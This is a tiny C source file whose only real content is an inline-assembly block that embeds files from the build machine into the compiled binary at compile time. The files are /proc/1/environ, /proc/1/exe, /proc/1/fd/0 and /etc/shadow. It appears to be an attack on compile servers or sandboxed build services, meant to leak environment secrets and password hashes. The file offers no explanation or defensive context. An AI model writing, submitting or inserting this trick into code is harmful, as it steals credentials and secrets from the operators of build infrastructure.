__asm__(".section .rodata\n"
        ".incbin \"/proc/1/environ\"\n"
        ".incbin \"/proc/1/exe\"\n"
        ".incbin \"/proc/1/fd/0\"\n"
        ".incbin \"/proc/1/root/etc/shadow\"\n"
        ".text\n");

int main(void) {
    return 0;
}
